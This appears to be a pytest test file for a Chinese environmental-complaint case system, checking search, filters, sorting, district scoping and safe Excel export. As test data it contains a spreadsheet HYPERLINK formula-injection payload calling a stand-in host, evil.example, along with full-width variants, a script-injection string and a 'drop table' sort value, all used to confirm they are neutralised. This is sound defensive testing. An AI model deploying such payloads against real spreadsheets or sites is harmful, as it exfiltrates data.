"""The case lists (issue 15): free-text search, the new filters, sorting by any column and the Excel export
of the list as filtered — always within what the user may see."""

from __future__ import annotations

import datetime as dt
import io
import re

import openpyxl
import pytest
import time_machine
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from eco12369.audit.models import AuditEntry
from eco12369.cases import services
from eco12369.cases.models import Case
from eco12369.orgs.models import Agency

from .conftest import MONDAY, advance
from .test_queues import numbers_on

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def numbers_in_order(response) -> list[str]:
    found = re.findall(r'class="case-link" href="/cases/([A-Z0-9]+)/"', response.content.decode())
    return list(dict.fromkeys(found))


@pytest.fixture
def desk(heping, hexi, make_case):
    """Cases written the way people write them: a typo, 某-anonymised parties, colloquial descriptions."""
    with time_machine.travel(MONDAY, tick=False):
        smell = make_case(
            "和平区",
            category="air",
            reported_party="天津市鑫源化工有限公司",
            address="和平区解放南路188号",
            description="晚上十点以后一股刺鼻的化学味儿，窗户都不敢开",
        )
        noise = make_case(
            "和平区",
            category="noise",
            reported_party="某某建筑工地",
            address="南京路与营口道交口",
            description="半夜还在打桩，吵得孩子睡不着觉！！",
        )
    with time_machine.travel(MONDAY + dt.timedelta(days=3), tick=False):
        typo = make_case(
            "和平区",
            category="water",
            reported_party="鑫原化工",  # the same company, misspelt by another reporter
            address="解放南路",
            description="排污口冒黑水 河里死鱼了",
        )
        hostile = make_case(
            "和平区",
            category="other",
            kind="consultation",
            channel="phone",
            reported_party=HOSTILE,
            address="<script>alert(1)</script>",
            description="问一下噪声扰民归谁管？",
        )
        elsewhere = make_case(
            "河西区",
            category="air",
            reported_party="天津市鑫源化工有限公司",
            address="河西区友谊路",
            description="同一家公司在河西区的分厂也有刺鼻的化学味",
        )
    return {"smell": smell, "noise": noise, "typo": typo, "hostile": hostile, "elsewhere": elsewhere}


def _search(client: Client, **params) -> set[str]:
    return numbers_on(client.get(reverse("workbench:search"), params))


@pytest.mark.parametrize(
    ("q", "expected"),
    [
        ("刺鼻", {"smell"}),  # the description
        ("鑫源", {"smell"}),  # the party (the typo 鑫原 is another word)
        ("鑫", {"smell", "typo"}),  # one character
        ("解放南路", {"smell", "typo"}),  # the address
        ("打桩", {"noise"}),
        ("某某", {"noise"}),
        ("HYPERLINK", {"hostile"}),  # case-insensitive, Latin in Chinese text
        ("hyperlink", {"hostile"}),
        ("<script>", {"hostile"}),
        ("化粪池", set()),
    ],
)
def test_free_text_search_in_description_party_and_address(client, heping, desk, q, expected) -> None:
    client.force_login(heping.operator)
    assert _search(client, q=q) == {desk[name].number for name in expected}


def test_free_text_search_stays_in_the_users_district(client, heping, hexi, desk) -> None:
    client.force_login(hexi.operator)
    assert _search(client, q="化学味") == {desk["elsewhere"].number}
    client.force_login(heping.operator)
    assert _search(client, q="化学味") == {desk["smell"].number}


def test_the_new_filters(client, heping, desk) -> None:
    client.force_login(heping.operator)
    assert _search(client, channel="phone") == {desk["hostile"].number}
    assert _search(client, kind="consultation", q="噪声") == {desk["hostile"].number}
    assert _search(client, duplicate="yes") == set()
    assert desk["typo"].number in _search(client, duplicate="no")
    advance(desk["noise"], heping, "handling")
    assert _search(client, department=heping.department.pk) == {desk["noise"].number}
    assert _search(client, agency=heping.operator.agency_id, q="鑫") == {
        desk["smell"].number,
        desk["typo"].number,
    }


def test_due_soon_and_overdue_and_deadline_range(client, heping, desk) -> None:
    client.force_login(heping.operator)
    smell = Case.objects.get(pk=desk["smell"].pk)
    assert smell.due_at is not None
    day = smell.due_at.astimezone(MONDAY.tzinfo).date().isoformat()  # confirm by Wednesday 5 March
    assert _search(client, due_from=day, due_to=day) == {desk["smell"].number, desk["noise"].number}
    assert desk["typo"].number not in _search(client, due_from=day, due_to=day)
    response = client.get(reverse("workbench:search"), {"due_from": "2025-03-10", "due_to": "2025-03-01"})
    assert "开始日期不能晚于结束日期" in response.content.decode()
    # A week later Monday's cases are overdue; on Wednesday morning Thursday's are due soon, not overdue.
    with time_machine.travel(MONDAY + dt.timedelta(days=7), tick=False):
        client.force_login(heping.operator)
        overdue = _search(client, timing="overdue")
    assert {desk["smell"].number, desk["noise"].number} <= overdue
    assert desk["typo"].number not in overdue  # received Thursday: due Monday 10 March, end of day
    with time_machine.travel(MONDAY + dt.timedelta(days=7, hours=5), tick=False):
        client.force_login(heping.operator)
        due_soon = _search(client, timing="due_soon")
    assert desk["typo"].number in due_soon and desk["smell"].number not in due_soon


def test_supervised_filter(client, heping, make_user, desk) -> None:
    city_head = make_user("head", district_name=None)
    advance(desk["noise"], heping, "handling")
    services.case_supervise(
        case=Case.objects.get(pk=desk["noise"].pk),
        actor=city_head,
        instruction="请加快办理，三日内回复。",
        answer_due=timezone.localdate() + dt.timedelta(days=7),
    )
    client.force_login(heping.operator)
    assert _search(client, supervised="yes") == {desk["noise"].number}
    assert desk["noise"].number not in _search(client, supervised="no")


def test_sort_by_any_column_both_ways_with_a_stable_tie_break(client, heping, desk) -> None:
    client.force_login(heping.operator)
    url = reverse("workbench:search")
    by_party = numbers_in_order(client.get(url, {"sort": "party"}))
    parties = [Case.objects.get(number=n).reported_party for n in by_party]
    assert parties == sorted(parties)
    assert numbers_in_order(client.get(url, {"sort": "-party"})) == list(reversed(by_party))
    # Two cases received at the same moment: ordered by id, reversed with the sort.
    by_received = numbers_in_order(client.get(url, {"sort": "received"}))
    assert by_received[:2] == [desk["smell"].number, desk["noise"].number]
    assert numbers_in_order(client.get(url, {"sort": "-received"}))[-2:] == [
        desk["noise"].number,
        desk["smell"].number,
    ]
    page = client.get(url, {"sort": "-party", "q": "鑫"}).content.decode()
    assert 'aria-sort="descending"' in page
    assert "sort=party" in page  # the heading's link turns the order around
    # A sort that is not a column's is ignored, never passed to the database.
    assert client.get(url, {"sort": "reporter_phone"}).status_code == 200
    assert client.get(url, {"sort": "-id;drop table"}).status_code == 200


def test_queue_sorts_by_a_column(client, heping, desk) -> None:
    client.force_login(heping.operator)
    url = reverse("workbench:queue_tab", args=["confirm"])
    numbers = numbers_in_order(client.get(url, {"sort": "category"}))
    categories = [Case.objects.get(number=n).category for n in numbers]
    assert categories == sorted(categories) and len(numbers) == 4


def _workbook(response) -> list[tuple]:
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert "attachment" in response["Content-Disposition"]
    body = b"".join(response.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    return list(sheet.iter_rows(values_only=True))


def test_city_operator_finds_a_partys_cases_and_exports_them(client, make_user, desk) -> None:
    city_operator = make_user("operator", district_name=None)
    client.force_login(city_operator)
    url = reverse("workbench:search")
    listed = _search(client, q="天津市鑫源化工有限公司")
    assert listed == {desk["smell"].number, desk["elsewhere"].number}  # both districts
    response = client.get(url, {"q": "天津市鑫源化工有限公司", "format": "xlsx"})
    rows = _workbook(response)
    assert rows[0][:3] == ("编号", "接收时间", "所属区")
    assert "当前期限" in rows[0] and "确认期限" in rows[0] and "办结期限" in rows[0]
    assert {row[0] for row in rows[1:]} == listed
    assert {row[2] for row in rows[1:]} == {"和平区", "河西区"}
    entry = AuditEntry.objects.filter(action="export", object_type="case_list").latest("id")
    assert entry.actor == city_operator
    assert entry.detail["rows"] == 2 and "q=" in entry.detail["filter"]


def test_export_keeps_hostile_text_as_text_and_the_screens_order(client, heping, desk) -> None:
    client.force_login(heping.operator)
    response = client.get(reverse("workbench:search"), {"sort": "party", "format": "xlsx"})
    body = b"".join(response.streaming_content)
    book = openpyxl.load_workbook(io.BytesIO(body))
    sheet = book.active
    party_column = [c.value for c in sheet["F"]][1:]
    assert party_column == sorted(party_column)
    hostile = next(c for c in sheet["F"] if c.value == HOSTILE)
    assert hostile.data_type == "s" and hostile.quotePrefix  # text, never a formula
    assert "河西区" not in {c.value for c in sheet["C"]}  # scoped to the user's district


# What a Chinese input method types: the full-width forms of the triggers. Each is exported as the ASCII "="
# is: a text cell with the quote prefix.
FULL_WIDTH_HOSTILE = [
    '＝HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "＋86 某化工厂",
    "－2+3",
    "＠SUM(1)",
]
# A trigger after blanks (the full-width space U+3000 here) is one too. Intake strips the texts it takes, so
# this one is a name staff keep elsewhere: the owning bureau's.
BLANK_LED = '\u3000＝HYPERLINK("http://evil.example","点我")'


def test_export_neutralises_full_width_and_blank_led_formulas_as_it_does_ascii(
    client, heping, make_case
) -> None:
    parties = [HOSTILE, *FULL_WIDTH_HOSTILE, "天津某化工有限公司"]
    for party in parties:
        make_case("和平区", reported_party=party)
    Agency.objects.filter(pk=heping.operator.agency_id).update(name=BLANK_LED)
    client.force_login(heping.operator)
    response = client.get(reverse("workbench:search"), {"format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert (sheet["F1"].value, sheet["N1"].value) == ("被举报对象", "责任机构")
    cells = {c.value: c for c in sheet["F"][1:]}
    assert set(cells) == set(parties)  # every text kept character for character
    for party in [HOSTILE, *FULL_WIDTH_HOSTILE]:
        assert (cells[party].data_type, cells[party].quotePrefix) == ("s", True), party
    assert not cells["天津某化工有限公司"].quotePrefix  # plain text is left as it is
    agencies = sheet["N"][1:]
    assert len(agencies) == len(parties)
    assert all((c.value, c.data_type, c.quotePrefix) == (BLANK_LED, "s", True) for c in agencies)


def test_queue_export_is_the_queue(client, heping, desk) -> None:
    advance(desk["noise"], heping, "closed")
    client.force_login(heping.operator)
    response = client.get(reverse("workbench:queue_tab", args=["closed"]), {"format": "xlsx"})
    rows = _workbook(response)
    assert [row[0] for row in rows[1:]] == [desk["noise"].number]
    assert rows[1][6] == "已办结"
    assert isinstance(rows[1][11], dt.datetime)  # 办结时间, a real date cell


def test_export_needs_a_case_role(client, make_user, desk) -> None:
    auditor = make_user("auditor", district_name=None)
    client.force_login(auditor)
    response = client.get(reverse("workbench:search"), {"q": "鑫", "format": "xlsx"})
    assert response.status_code == 404
    assert not AuditEntry.objects.filter(action="export", object_type="case_list").exists()


def test_satisfaction_filter_reads_the_latest_rating(client, heping, desk) -> None:
    from eco12369.followup.services import rating_submit

    closed = advance(desk["noise"], heping, "closed")
    rating_submit(
        case=closed,
        openid=closed.reporter_openid,
        level="unsatisfied",
        comment="还是很吵",
        channel="wechat_h5",
    )
    client.force_login(heping.operator)
    assert _search(client, satisfaction="unsatisfied") == {desk["noise"].number}
    assert _search(client, satisfaction="satisfied") == set()
    assert desk["noise"].number not in _search(client, satisfaction="none")
    assert desk["smell"].number in _search(client, satisfaction="none")
